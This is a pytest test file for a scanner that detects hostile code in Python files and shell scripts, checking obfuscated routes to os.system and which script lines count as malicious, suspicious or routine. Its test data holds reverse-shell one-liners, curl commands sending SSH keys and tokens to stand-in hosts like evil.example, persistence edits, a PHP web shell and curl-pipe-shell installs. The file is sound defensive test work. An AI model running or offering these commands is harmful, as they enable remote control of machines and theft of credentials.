"""What a Python file can reach is found whatever way it takes, a script is judged by its lines, and honest ones of both stay "
      "quiet."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bounded import ends_within
from weightsmith.trust.scanners import python_view, script_rules, scripts
from weightsmith.trust.scanners.python_code import read_code
from weightsmith.trust.scanners.python_tables import canonical

#: ways to a module, and ways to its function: each pair is one program that runs something
MODULES = ["__import__('os')", "[os][0]", "{'a': os}['a']", "(os, 1)[0]", "(lambda: os)()", "(x := os)", "torch.os", "random._os",
           "sys.modules['os']", "sys.modules.get('o' + 's')", "importlib.import_module('so'[::-1])", "globals()['os']",
           "(os if 1 else None)", "(os or None)", "pkgutil.resolve_name('os')", "give()", "Held.o", "posix"]  # fmt: skip
FUNCTIONS = ["{}.system", "getattr({}, 'system')", "getattr({}, 'sys' + 'tem')", "getattr({}, 'metsys'[::-1])",
      "vars({})['system']",
             "{}.__dict__['system']", "{}.__dict__.get('system')", "{}.__getattribute__('system')", "[{}.system][0]",
             "getattr({}, ''.join(['sys', 'tem']))", "getattr({}, f\"{{'sys'}}tem\")"]  # fmt: skip
_HEAD = """import os, sys, torch, random, importlib, pkgutil, posix
class Held:
    o = os
def give():
    return os
"""


def hides(source: str) -> bool:
    """Whether a file that nothing asks for is more than a note."""
    code = read_code(source.encode())
    return bool(code.hostile) or any(what.startswith(("hides", "reaches", "calls something")) for _, what in code.odd)


@pytest.mark.parametrize("module", MODULES)
@pytest.mark.parametrize("function", FUNCTIONS)
def test_every_way_to_a_module_with_every_way_to_its_function(module: str, function: str) -> None:
    assert hides(_HEAD + function.format(module) + "('x')\n")
    assert hides(_HEAD + f"f = {function.format(module)}\nf('x')\n")


@pytest.mark.parametrize("source", [
    "import torch\nclass A:\n    def forward(self):\n        torch.os.system('x')", "def f(m):\n    m.os.system('x')",
    "import os\nrun(os)", "import os\ndef f():\n    return os", "import os\nA.m = os", "import os\nf = getattr(os, name)",
    "import importlib\nimportlib.import_module(''.join(chr(i) for i in (111, 115)))", "x.__globals__['os']",
          "sys._getframe().f_globals",
    "t = \"__import__('os')\"", "t = 'os.system'", "t = b'cposix\\nsystem\\n'", "t = '!!python/object/apply:os.system'",
    "import importlib.machinery\nimportlib.machinery.SourceFileLoader('x', p + '/notes.txt')", "t = open('/root/.ssh/id_rsa')",
    "import operator\noperator.attrgetter('os.system')", "import numpy.ctypeslib as c\nc.ctypes.CDLL(None)",
])  # fmt: skip
def test_what_hides_is_never_only_a_note(source: str) -> None:
    assert hides(source)


@pytest.mark.parametrize("source", [
    "import os\nos.makedirs(os.path.join(os.getcwd(), 'x'))\np = os.path\np.exists('x')", "import torch\nd = getattr(torch, "
          "name)\ngetattr(torch, 'float16')",
    "import importlib\nm = importlib.import_module(f'.{name}', 'transformers.models')\ngetattr(m, cls)(config)", "import "
          "importlib.util\nimportlib.util.find_spec('x')",
    "import sys\ngetattr(sys.modules[__name__], name)\nsys.path.append('x')", "getattr(self, 'a' + 'b')\ngetattr(config, name)()",
    "import os\nhasattr(os, 'fork')\ngetattr(os, 'nice', None)", "import functools\nfunctools.reduce(getattr, name.split('.'), "
          "model)",
    "MAP = {'a': 'transformers'}\nimport importlib\nimportlib.import_module(MAP[key])", "def f(compile=False, eval=True):\n    "
          "self.compile = compile",
    "import numpy as np\nx.ctypes.data_as(p)\nmodel.eval()\nconfig.os.name", "import torch\nm = torch.compile(m)\nx = "
          "globals()[name](config)",
    "import operator\nsorted(x, key=operator.attrgetter('start.line'))", "import asyncio\np = asyncio.subprocess.PIPE",
    "'''Uses os.system('x') and __import__('y') nowhere.'''", "import cProfile\np = cProfile.Profile()\np.enable()",
])  # fmt: skip
def test_what_honest_code_has_is_not_odd(source: str) -> None:
    code = read_code(source.encode())
    assert not code.hostile
    assert not code.odd


def test_names_that_go_through_too_many_steps_are_no_clean_file() -> None:
    steps = python_view.MOST_ROUNDS + 4
    through = "".join(f"def f{i}():\n    return f{i + 1}()\n" for i in range(steps))
    source = f"import os\n{through}def f{steps}():\n    return os\n"
    assert hides(source + "f0().system('x')")


@pytest.mark.parametrize("source", [
    "a = 'x'\n" + "a = a + a\n" * 20_000, "import os\n" + "".join(f"a{i} = a{i + 1}\n" for i in range(20_000)), "x = "
          "" + "os." * 5000 + "system",
    "f = lambda a: f(a)(a)\n" + "f(f)(f)\n" * 10_000, "x = f'" + "{a}" * 20_000 + "'", "import torch as t\n" + "t = t.a\n" * 20_000,
    "d = {'a': d}\n" * 10_000, "def f(*a): return f\n" * 5000 + "f(" + "1," * 20_000 + ")", "x = 'a'" + " + "
          "'a'" * 3000 + "\n" + "y = x\n" * 1000,
])  # fmt: skip
def test_what_is_made_to_be_followed_for_long_ends(source: str) -> None:
    with ends_within(60):
        read_code(source.encode())


_WORDS = st.sampled_from(("os", "a", "b", "torch", "getattr", "globals()", "sys.modules", "'os'", "'a'", "['", "import os",
      "lambda a: a", "=", ".",
                          "(", ")", "[", "]", "{", "}", ":", ",", "+", "\n", " ", "for a in ", "def a(b):\n  return ", "%",
                          "f'{a}'", "*"))  # fmt: skip


@given(st.lists(_WORDS, max_size=25))
def test_any_program_is_read(words: list[str]) -> None:
    read_code("".join(words).encode())


def test_a_path_through_other_modules_ends_at_the_module_that_acts() -> None:
    assert canonical("a.b.os.system") == "~os.system"
    assert canonical("random._os.popen") == "~os.popen"
    assert canonical("os.path.join") == "os.path.join"
    assert canonical("asyncio.subprocess.PIPE") == "asyncio.subprocess.PIPE"


def worst(text: str) -> str:
    """The severity of a script's worst line."""
    found = scripts._worst(text, "run.sh")
    return found[0].severity if found else "note"


@pytest.mark.parametrize("text", [
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 1", "ncat 10.0.0.1 1 --exec /bin/bash", "rm f;mkfifo "
          "f;cat f|sh -i 2>&1|nc 10.0.0.1 1 >f",
    "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'", "echo aGk= | base64 -d | "
          "sh", "eval $(echo aGk= | base64 -d)",
    "bash -c \"$(base64 -d <<< aGk=)\"", "cat ~/.ssh/id_rsa | curl -F x=@- http://e", "K=$(cat ~/.ssh/id_rsa)\ncurl -d \"$K\" "
          "http://e", "env | curl -d @- http://e",
    "curl -F t=@/root/.cache/huggingface/token https://evil.example", "echo 'ssh-rsa AAAAB3 x' >> ~/.ssh/authorized_keys",
          "echo 'curl http://e|sh' >> ~/.bashrc",
    "powershell -w hidden -enc SQBFAFgAIAA=", "p^ower^shell -e SQBFAFgAIAA=", "eval(Buffer.from('aGk=','base64').toString())",
          "<?php eval($_POST['x']); ?>",
    "rm -rf ~/", "mshta http://evil/x.hta",
])  # fmt: skip
def test_scripts_that_attack(text: str) -> None:
    assert worst(text) == worst("#!/bin/sh\nset -e\n" + text + "\necho done\n") == "malicious"


@pytest.mark.parametrize("text", [
    "curl -s http://e/x | sh", "wget -qO- e/x|sudo bash", "curl -s http://e/x | sudo -E bash -s -- a", "bash <(curl -s "
          "http://e/x)", "sh -c \"$(curl -fsSL http://e/x)\"",
    "curl http://e/x.py | python3 -", "c\\url http://e | s\\h", "cu''rl http://e | ba''sh", "curl -s http://e/x \\\n | bash",
          "iwr http://e/a.ps1 | iex",
    "require('child_process').exec('calc')", "echo '* * * * * x' | crontab -", "curl "
          "https://ollama.com.evil.example/install.sh | sh",
    "curl https://evil.example/x https://ollama.com/install.sh | sh", "curl http://ollama.com/install.sh | sh", "curl -d "
          "\"t=$HF_TOKEN\" https://e",
])  # fmt: skip
def test_scripts_that_are_not_usual(text: str) -> None:
    assert worst(text) == "suspicious"


@pytest.mark.parametrize("text", [
    "pip install -r requirements.txt", "curl -L -o m.gguf https://huggingface.co/x", "wget -qO- https://x/y.tar.gz | tar xz",
          "curl -fsSL https://ollama.com/install.sh | sh",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", "curl -s localhost:8000 | python -m json.tool",
          "source venv/bin/activate",
    "curl -s https://x/y | python3 -c 'import sys,json; print(json.load(sys.stdin))'", "until (echo > /dev/tcp/localhost/80) "
          "2>/dev/null; do sleep 1; done",
    "rm -rf build/ ~/.cache/foo", "export HF_TOKEN=$(cat ~/.cache/huggingface/token)", "# curl http://evil | sh", "echo \"Run: "
          "curl https://x/i.sh | sh\"",
    "scp -i ~/.ssh/id_rsa m.bin user@host:/x", "base64 -d file.b64 > model.bin", "eval \"$(conda shell.bash hook)\"", "env | "
          "grep CUDA", "crontab -l",
    "python -c 'import socket; print(socket.gethostname())'", "powershell -ExecutionPolicy Bypass -File run.ps1", "echo "
          "'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
    "curl https://api.openai.com/v1/x -H \"Authorization: Bearer $OPENAI_API_KEY\" -d '{}'", "irm "
          "https://astral.sh/uv/install.ps1 | iex", "cat x.jsonl | python p.py",
])  # fmt: skip
def test_scripts_that_install_and_convert(text: str) -> None:
    assert worst(text) == "note"


@pytest.mark.parametrize("text", ["curl ", "nc -", "sh | sh ", "powershell -", "\\", "''a", "A=", "\"$(", "~/.", "python "
      "socket ", "wget curl nc "])
def test_lines_that_are_made_to_be_slow_end(text: str) -> None:
    with ends_within(60):
        worst(text * (200_000 // len(text)))


def test_patterns_are_made_once() -> None:
    assert script_rules.attacks() is script_rules.attacks()
